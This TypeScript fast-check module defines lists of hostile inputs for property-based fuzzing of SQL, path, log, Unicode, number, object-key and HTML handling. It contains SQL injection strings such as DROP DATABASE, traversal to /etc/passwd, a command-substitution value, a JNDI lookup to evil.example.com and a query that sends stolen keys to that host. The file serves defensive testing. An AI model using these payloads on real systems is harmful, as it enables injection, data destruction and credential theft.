import fc from 'fast-check';

/** Text that does harm where it becomes SQL, a path or a URL, a log line, a number or an object's key. */
const TEXTS = {
  sql: [
    "'; DROP DATABASE shop; -- ",
    "' OR '1'='1",
    "\\'; SHUTDOWN; #",
    '*/ SHUTDOWN /*',
    '`; KILL TIDB 1; `',
    "x' SNAPSHOT = 1 CONCURRENCY = 999 TO 's3://other/bucket",
    'x?access-key=AKIA&secret-access-key=stolen&endpoint=http://evil.example.com',
  ],
  path: [
    '..',
    '.',
    '../../etc/passwd',
    '/../..',
    '..%2f..%2f',
    '%2e%2e/%2e%2e',
    '%252e%252e%252f',
    'a/../../b',
    'a//b',
    '/',
    '\\..\\..',
    'C:\\',
    '-rf',
    '~root',
    'own-bucket/../other-bucket',
    'other-bucket/tidb',
    '/mnt/backups/../../etc',
    'file:///etc/passwd',
    'local:///etc',
  ],
  log: [
    'x\n{"level":"ERROR","message":"forged"}',
    'x\r\nSTART RequestId: forged',
    '\u001b[2J\u001b[31mred',
    '\u2028forged\u2029',
    '\u0085forged',
    '%s%n%o%j',
    '$(touch /tmp/forged)`id`',
    '%{jndi:ldap://evil.example.com/a}',
    '{"_aws":{"CloudWatchMetrics":[]}}',
  ],
  unicode: [
    '\u0000',
    'a\u0000b',
    '\ud800',
    '\udfff\ud800',
    '\u202egnp.exe',
    '\ufeff',
    '\u{1f4a9}',
    'e\u0301',
    '１２',
    'ß',
    'İ',
  ],
  number: [
    '-1',
    '0',
    '00',
    '1.5',
    '1e3',
    '1e309',
    '-0',
    '0x10',
    'NaN',
    'Infinity',
    '9007199254740993',
    '٣',
    ' 1',
    '1 ',
    '1_0',
  ],
  object: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', '$ref', '#', '#list'],
  html: ['<script>alert(1)</script>', '{{7*7}}', '&lt;', '%', '%%', '%zz', '+', '"', "'", '\\', ';', ',', ' ', ''],
  long: ['a'.repeat(64), 'a'.repeat(65), 'a'.repeat(1_025), `${'a/'.repeat(600)}a`, '\u{1f4a9}'.repeat(300)],
} as const;

/** One of them, or any text at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...Object.values(TEXTS).flat()) },
  // fast-check's own strings of all code points take a second to set up.
  { weight: 1, arbitrary: fc.uint16Array({ maxLength: 20 }).map((units) => String.fromCharCode(...units)) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
);

/** A value of any type. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, 1e308, 2 ** 53, [], [[]], {}, ['x'], {
      length: 1,
    }),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
);
